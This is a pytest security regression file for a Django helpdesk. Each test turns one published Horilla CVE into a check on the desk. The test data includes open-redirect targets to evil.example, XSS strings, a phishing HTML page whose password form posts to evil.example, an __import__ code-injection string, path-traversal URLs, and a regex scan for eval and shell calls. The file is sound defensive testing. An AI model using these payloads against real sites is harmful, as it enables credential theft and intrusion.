"""Thirteen published faults of Horilla: what each teaches, asked of this desk."""

from __future__ import annotations

import ast
import re
import uuid
from pathlib import Path
from typing import Any

import pyotp
import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from provodnik.accounts import api_tokens, codes, tokens
from provodnik.accounts.actions import factors
from provodnik.api.tests.speaking import Program
from provodnik.articles.models import Article, ArticleFile
from provodnik.articles.states import State
from provodnik.core.decisions import Refused
from provodnik.core.models import Blob
from provodnik.desk import ratings
from provodnik.desk.actions import closing, complaints, work
from provodnik.desk.actions.base import LONGEST_TEXT
from provodnik.desk.models import Attachment, Customer, Message, Subsystem, Tag, Ticket, UnsentFile
from provodnik.desk.states import Resolution
from provodnik.desk.tests.factories import PASSWORD, make_ticket
from tests.lessons.around import MARKUP, feedback, person
from tests.lessons.conftest import As
from tests.matrix import ROWS
from tests.pages import active
from tests.test_matrix import fingerprint, to_sign_in
from tests.world import World

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2] / "provodnik"
PAGE = b"<!doctype html><form action=https://evil.example><input type=password></form><script>alert(1)</script>"


# Words whose place in the code is looked at; most modules hold none of them and are not taken apart.
SUSPECT = re.compile(
    r"(?<![.\w])(?:eval|exec|compile|__import__)\(|pickle|marshal|shelve|yaml|dill|shell|\bos\.(?:system|popen)"
)


def suspect_modules() -> list[tuple[Path, ast.AST]]:
    """Those of the modules that are delivered in which such a word stands, read."""
    found = [path for path in ROOT.rglob("*.py") if "/tests/" not in str(path)]
    assert len(found) > 300
    texts = ((path, path.read_text(encoding="utf-8")) for path in found)
    return [(path, ast.parse(text)) for path, text in texts if SUSPECT.search(text)]


def test_cve_2026_41513_next_leads_to_pages_of_our_own(world: World, as_: As) -> None:
    """The endpoints of notices followed any address that `next` named."""
    wrong = []
    places = ("https://evil.example/", "//evil.example/", "/\\evil.example", "\t//evil.example", "javascript:alert(1)")
    for name, row in ROWS.items():
        if "POST" not in row.methods or not name.startswith(("notify:", "accounts:", "works:put", "desk:take")):
            continue
        thing, people = next((thing, people) for thing, people in row.things.items() if people)
        address = reverse(name, kwargs=world.things[name][thing] if thing else {})
        for place in places:
            sent = as_(people[-1]).post(
                f"{address}?next={place}", {"next": place, "return": place, "back": place, "url": place}
            )
            where = str(sent.headers.get("Location", "/"))
            if not where.startswith("/") or where.startswith(("//", "/\\")) or "evil" in where.partition("?")[0]:
                wrong.append(f"{name}: {where}")
    assert wrong == []


def test_cve_2026_40867_a_requests_file_is_its_readers_alone(world: World, as_: As) -> None:
    """The viewer of attachments looked the file up by its number and asked nothing more."""
    found = world.things["files:download"]
    foreign, note = found["foreign"]["key"], found["note"]["key"]
    for who in ("requester", "colleague", "coordinator", "ex_contact", "administrator"):
        for key in (foreign, note):
            for route in ("files:download", "files:preview"):
                assert as_(who).get(reverse(route, args=[key])).status_code == 404, (who, route)
            assert Program(person(world, who)).get(f"/files/{key}").status_code in (403, 404)


def test_cve_2026_40866_nobody_puts_a_file_in_anothers_place(world: World, as_: As) -> None:
    """An upload with another's document id replaced the other's document: here kept bytes are never written over."""
    key = world.things["files:download"]["foreign"]["key"]
    blob = Attachment.objects.get(pk=key).blob
    before = (blob.sha256, bytes(blob.content or b""))
    upload = {"files": SimpleUploadedFile("x.png", b"other"), "file": SimpleUploadedFile("x.png", b"other")}
    for method in ("post", "put", "patch", "delete"):
        for address in (reverse("files:download", args=[key]), f"{reverse('files:download', args=[key])}/preview"):
            assert getattr(as_("requester"), method)(address, upload if method == "post" else b"").status_code == 405
    named = {"document_id": key, "id": key, "attachment": key, "kept": key, "files_kept": key}
    sent = as_("requester").post(reverse("requests:answer", args=[world.own.pk]), {**feedback(), **named})
    assert sent.status_code in (302, 303)
    held = world.own.unsent.create(user=person(world, "specialist"), text="x", changed_at=timezone.now())
    mine = UnsentFile.objects.create(unsent=held, blob=blob, name="черновик.png", content_type="image/png")
    said = {"mode": "note", "text": "Да", "key": uuid.uuid4(), "revision": world.own.revision, "kept": mine.pk}
    assert as_("lead").post(reverse("desk:say", args=[world.own.pk]), said).status_code == 422
    again = Attachment.objects.get(pk=key)
    assert (again.blob_id, again.blob.sha256, bytes(again.blob.content or b"")) == (blob.pk, *before)
    assert Attachment.objects.filter(blob=blob).count() == 1


def test_cve_2026_40865_every_address_that_gives_bytes_asks_who_it_is(world: World, as_: As) -> None:
    """`/employee/view-file/<id>` gave contracts and passports to whoever could count."""
    giving = (
        "files:download", "files:preview", "files:letter", "articles:file", "articles:picture", "quality:download",
        "quality:print", "transfer:report", "settings:act_file", "settings:raw_letter",
    )  # fmt: skip
    asked = 0
    for name in giving:
        for thing, people in ROWS[name].things.items():
            address = reverse(name, kwargs=world.things[name][thing])
            for who in ("anonymous", "switched_off", "requester", "other_coordinator", "ex_contact", "specialist"):
                if who in people:
                    continue
                answer = as_(who).get(address)
                assert answer.status_code == 404 or to_sign_in(answer), (name, thing, who)
                assert "attachment" not in answer.headers.get("Content-Disposition", "")
                asked += 1
    assert asked > 60


def test_cve_2026_24039_nobody_approves_his_own(world: World, as_: As) -> None:
    """An employee approved the document he had uploaded himself: the button was hidden and the endpoint was not."""
    before = fingerprint()
    for step in ("take", "confirm", "say"):  # a requester does not work on his own request
        sent = {"mode": "close", "resolution": "solved", "text": "Сам", "key": uuid.uuid4(), "revision": "0"}
        assert as_("requester").post(reverse(f"desk:{step}", args=[world.own.pk]), sent).status_code == 404
    assert fingerprint() == before
    draft = world.things["articles:edit"]["draft"]  # an author without the right to publish
    article = Article.objects.get(pk=next(iter(draft.values())))
    typed = {"title": "Моё", "text": "Текст", "kind": "instruction", "audience": "everyone", "do": "publish"}
    as_("specialist").post(reverse("articles:edit", kwargs=draft), {**typed, "revision": article.revision})
    assert Article.objects.get(pk=article.pk).state == State.DRAFT.value
    accused, now = person(world, "specialist"), timezone.now()
    ticket = make_ticket(contact=world.own.contact, at=now)
    work.take(ticket.pk, by=accused, at=now)
    made = complaints.complain(ticket.pk, text="Грубили.", by=person(world, "requester"), at=now, key=uuid.uuid4())
    with pytest.raises(Refused):  # a complaint is not settled by whom it is about
        closing.close(made.pk, resolution=Resolution.COMPLAINT, text="Нет", by=accused, at=now)


def test_cve_2026_24038_nothing_equals_nothing(world: World) -> None:
    """The code had run out (None) and none was sent (None): None == None let everybody in."""
    user, secret = person(world, "colleague"), codes.new_secret()
    user.set_password(PASSWORD)
    user.save()
    now = timezone.now()
    factors.add_totp(user, secret=secret, code=pyotp.TOTP(secret).at(now), session_key=None, at=now)
    for sent in ({}, {"code": ""}, {"code": "None"}, {"otp": "1"}):
        client = Client()
        assert client.post("/sign-in/", {"login": user.login, "password": PASSWORD}).status_code == 302
        assert client.post(reverse("accounts:sign_in_second"), sent).status_code == 422
        assert to_sign_in(client.get(reverse("requests:index")))
    for nothing in ("", "None", "null"):
        assert codes.matching_step("", nothing, at=now, after=-1) is None
        assert tokens.read(nothing, tokens.Purpose.RESET) is None
        assert api_tokens.read(nothing, now=now) is None
        assert ratings.read(nothing) is None


def test_cve_2026_24037_markup_is_shown_not_detected(world: World, as_: As) -> None:
    """Patterns were to find scripts in names: what they forgot ran. Here a name is any text, and is encoded."""
    customer = Customer.objects.get(pk=world.own.customer_id)
    for text in (*MARKUP, "<a href='java\tscript:alert(1)'>", "'-alert(1)-'", "{{constructor.constructor('x')()}}"):
        Customer.objects.filter(pk=customer.pk).update(name=text)
        Subsystem.objects.update(name=text)
        Tag.objects.update(name=text[:40])
        for who, address in (
            ("administrator", reverse("settings:customers")),
            ("administrator", reverse("settings:subsystems")),
            ("administrator", reverse("settings:tags")),
            ("specialist", reverse("desk:queue") + "?view=open&filters=1"),
            ("specialist", reverse("desk:ticket", args=[world.own.pk])),
            ("requester", reverse("requests:new")),
        ):
            page = as_(who).get(address)
            assert page.status_code == 200 and active(page.text) == [], (text, address)
        assert Customer.objects.get(pk=customer.pk).name == text


def test_cve_2026_24035_nobody_brings_a_file_for_another(world: World, as_: As) -> None:
    """`employee_id` of the form decided in whose name a document was uploaded."""
    before = (Attachment.objects.count(), Blob.objects.count())
    upload = {"text": "Вот", "key": uuid.uuid4(), "files": SimpleUploadedFile("x.txt", b"x" * 70_000)}
    foreign = reverse("requests:answer", args=[world.foreign.pk])
    assert as_("requester").post(foreign, upload).status_code == 404
    program, other = Program(person(world, "requester")), Program(person(world, "other_requester"))
    theirs = other.upload("theirs.png", b"x" * 10).json()["id"]
    mine = f"/requests/{world.own.pk}/messages"
    assert program.post(mine, {"text": "Вот", "files": [theirs]}).status_code in (400, 422)
    assert program.post(f"/requests/{world.foreign.pk}/messages", {"text": "Вот"}).status_code == 404
    assert program.post(mine, {"text": "Вот", "author": 1}).status_code in (400, 422)
    assert (Attachment.objects.count(), Blob.objects.count() - 1) == before
    sent = as_("requester").post(
        reverse("requests:answer", args=[world.own.pk]),
        {**feedback(), "employee_id": "1", "author": "1", "contact": "1"},
    )
    said = Message.objects.filter(ticket=world.own).latest("pk")
    assert sent.status_code in (302, 303) and said.contact == world.own.contact


@pytest.mark.parametrize("name", ["photo.png", "photo.html", "photo.png.html", "photo.jpg"])
def test_cve_2026_24010_a_page_among_the_files_is_not_a_page_of_ours(world: World, as_: As, name: str) -> None:
    """An HTML page uploaded as a portrait asked for the password under the product's own address."""
    upload = SimpleUploadedFile(name, PAGE, "text/html")
    assert as_("requester").post(reverse("requests:new"), feedback(files=upload)).status_code == 302
    file = Attachment.objects.latest("message_id")
    assert as_("specialist").get(reverse("files:preview", args=[file.pk])).status_code == 404
    got = as_("specialist").get(reverse("files:download", args=[file.pk]))
    assert got.headers["Content-Type"] == "application/octet-stream"
    assert got.headers["Content-Disposition"].startswith("attachment")
    assert got.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    article = Article.objects.get(pk=next(iter(world.things["articles:edit"]["draft"].values())))
    blob = Blob.objects.create(sha256="0" * 64, size=len(PAGE), content=PAGE)
    facts = {"by_id": article.author_id, "at": timezone.now(), "picture": "image/png"}
    shown = ArticleFile.objects.create(article=article, blob=blob, name=name, **facts)
    assert as_("administrator").get(reverse("articles:picture", args=[shown.pk])).status_code == 404


def test_cve_2025_59832_what_is_said_in_a_request_is_text(world: World, as_: As) -> None:
    """A comment of a ticket ran as script before the administrator who read it."""
    requester, specialist = person(world, "requester"), person(world, "specialist")
    ticket = Ticket.objects.get(pk=world.own.pk)
    for text in MARKUP:
        as_("requester").post(reverse("requests:answer", args=[ticket.pk]), {"text": text, "key": uuid.uuid4()})
        work.note(ticket.pk, text=text, by=specialist, at=timezone.now())
        work.reply(ticket.pk, text=text, by=specialist, at=timezone.now())
    Ticket.objects.filter(pk=ticket.pk).update(subject=MARKUP[0], requester_name=MARKUP[1])
    type(requester).objects.filter(pk=requester.pk).update(full_name=MARKUP[2])
    for who, address in (
        ("specialist", reverse("desk:ticket", args=[ticket.pk])),
        ("specialist", reverse("desk:queue") + "?view=open"),
        ("specialist", reverse("desk:search") + "?q=alert"),
        ("requester", reverse("requests:show", args=[ticket.pk])),
        ("coordinator", reverse("requests:index") + "?scope=company&q=alert"),
        ("administrator", reverse("settings:users")),
    ):
        page = as_(who).get(address)
        assert page.status_code == 200 and active(page.text) == [], address
    found = as_("specialist").get(reverse("desk:palette") + "?q=alert")  # data: a browser shows it as nothing else
    assert found.headers["Content-Type"] == "application/json" and found.headers["X-Content-Type-Options"] == "nosniff"
    rows = as_("specialist").get(reverse("desk:pulse") + "?since=1&view=open").json()["rows"]
    assert rows and [active(row["html"]) for row in rows] == [[] for row in rows]  # put into the page as HTML
    shown = as_("requester").get(reverse("requests:show", args=[ticket.pk])).text
    assert shown.count("&lt;details open ontoggle=alert(1)&gt;") >= 2


def test_cve_2025_59524_the_server_checks_what_the_browser_should_have(world: World, as_: As, settings: Any) -> None:
    """A file was looked at in the browser alone: whoever sends the form himself sends what he likes."""
    settings.UPLOAD_LIMIT = 1000
    before = Ticket.objects.count()
    large = SimpleUploadedFile("a.png", b"x" * 1001)
    many = [SimpleUploadedFile(f"{number}.png", b"x") for number in range(django_settings.FILES_LIMIT + 1)]
    wrong: tuple[dict[str, Any], ...] = (
        {"files": large}, {"files": many}, {"text": "x" * (LONGEST_TEXT + 1)}, {"text": ""}, {"impact": "whatever"},
        {"contact_email": "no address"}, {"key": "no key"}, {"subsystem": 10**9},
    )  # fmt: skip
    for typed in wrong:
        assert as_("requester").post(reverse("requests:new"), feedback(**typed)).status_code in (400, 422), list(typed)
    assert Ticket.objects.count() == before
    closing.close(
        world.own.pk, resolution=Resolution.SOLVED, text="Да", by=person(world, "specialist"), at=timezone.now()
    )
    for rating in ("0", "6", "-1", "5.5", "None", ""):
        as_("requester").post(reverse("requests:rate", args=[world.own.pk]), {"rating": rating})
    assert Ticket.objects.get(pk=world.own.pk).rating is None


def test_cve_2025_48868_nothing_that_was_sent_is_run(world: World, as_: As, tmp_path: Path) -> None:
    """The ids of a bulk step went through eval(): whoever could archive could run commands."""
    forbidden = {"eval", "exec", "compile", "__import__"}
    modules = {"pickle", "marshal", "shelve", "yaml", "dill", "jsonpickle"}
    wrong = []
    for path, tree in suspect_modules():
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in forbidden:
                wrong.append(f"{path}:{node.lineno} {node.func.id}")
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = {alias.name for alias in node.names} | {getattr(node, "module", None) or ""}
                wrong += [f"{path}:{node.lineno} {name}" for name in names if name.partition(".")[0] in modules]
            if isinstance(node, ast.keyword) and node.arg == "shell":
                wrong.append(f"{path} shell=")
            if isinstance(node, ast.Attribute) and node.attr in ("system", "popen") and ast.unparse(node.value) == "os":
                wrong.append(f"{path}:{node.lineno} os.{node.attr}")
    assert wrong == []
    canary = tmp_path / "ran"
    code = f"__import__('pathlib').Path({str(canary)!r}).touch()"
    for field in ("n", "ids", "numbers", "q", "view", "tags", "text"):
        as_("specialist").get(reverse("desk:choose"), {field: code})
        as_("specialist").post(
            reverse("desk:bulk", args=["tags"]), {"key": uuid.uuid4(), field: code, "n": f"[{code}]"}
        )
    assert not canary.exists()


def test_cve_2025_48869_no_folder_of_files_is_public(world: World, as_: As) -> None:
    """CVs lay in a folder that the web server gave to everybody."""
    kept, served = Path(django_settings.FILES_DIR), Path(django_settings.STATIC_ROOT)
    assert served not in kept.parents and kept not in served.parents and kept != served
    assert not getattr(django_settings, "MEDIA_ROOT", "") and django_settings.MEDIA_URL in ("", "/")
    name = uuid.uuid4().hex
    place = kept / name[:2] / name
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_bytes(b"secret-of-the-disk")
    try:
        inside = f"files/{name[:2]}/{name}"
        for address in (
            f"/{inside}",
            f"/static/../{inside}",
            f"/static/%2e%2e/{inside}",
            f"/static/{inside}",
            f"/{name}",
        ):
            for who in ("anonymous", "administrator"):
                answer = as_(who).get(address)
                assert answer.status_code in (302, 404) and "secret-of-the-disk" not in answer.text
    finally:
        place.unlink()
